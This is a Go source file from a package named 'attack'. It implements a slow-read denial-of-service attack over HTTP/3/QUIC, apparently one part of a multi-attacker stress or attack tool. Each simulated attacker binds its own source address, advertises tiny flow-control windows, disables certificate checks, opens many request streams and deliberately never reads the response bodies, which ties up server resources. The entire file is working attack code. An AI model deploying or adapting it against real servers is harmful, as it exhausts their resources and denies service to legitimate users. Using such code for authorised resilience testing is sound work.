package attack

import (
	"context"
	"crypto/tls"
	"net"
	"net/http"
	"sync"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
)

// What a client that does not read lets the server send.
const (
	streamWindow     = 1 << 10
	connectionWindow = 64 << 10
)

// quicStalled asks for many responses over HTTP/3, in small windows, and reads none
// beyond its head.
func quicStalled(ctx context.Context, p Plan, i int, opened func()) error {
	conn, closing, err := dialQUIC(ctx, p, i)
	if err != nil {
		return err
	}
	defer closing()
	client := (&http3.Transport{DisableCompression: true}).NewClientConn(conn)
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	var streams sync.WaitGroup
	for range p.Streams {
		streams.Go(func() {
			req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+p.Address+p.Path, http.NoBody)
			if err != nil {
				return
			}
			if resp, err := client.RoundTrip(req); err == nil {
				defer resp.Body.Close()
				<-conn.Context().Done()
			}
		})
	}
	opened()
	select {
	case <-ctx.Done():
	case <-conn.Context().Done():
	}
	_ = conn.CloseWithError(quic.ApplicationErrorCode(http3.ErrCodeNoError), "")
	streams.Wait()
	return context.Cause(conn.Context())
}

// dialQUIC opens a connection from the address of attacker i.
func dialQUIC(ctx context.Context, p Plan, i int) (*quic.Conn, func(), error) {
	to, err := net.ResolveUDPAddr("udp", p.Address)
	if err != nil {
		return nil, nil, err
	}
	socket, err := net.ListenUDP("udp", &net.UDPAddr{IP: source(i)})
	if err != nil {
		return nil, nil, err
	}
	tlsConfig := http3.ConfigureTLSConfig(&tls.Config{InsecureSkipVerify: true})
	conn, err := quic.Dial(ctx, socket, to, tlsConfig, &quic.Config{
		InitialStreamReceiveWindow: streamWindow, MaxStreamReceiveWindow: streamWindow,
		InitialConnectionReceiveWindow: connectionWindow, MaxConnectionReceiveWindow: connectionWindow,
		KeepAlivePeriod: time.Second,
	})
	if err != nil {
		socket.Close()
		return nil, nil, err
	}
	return conn, func() { socket.Close() }, nil
}
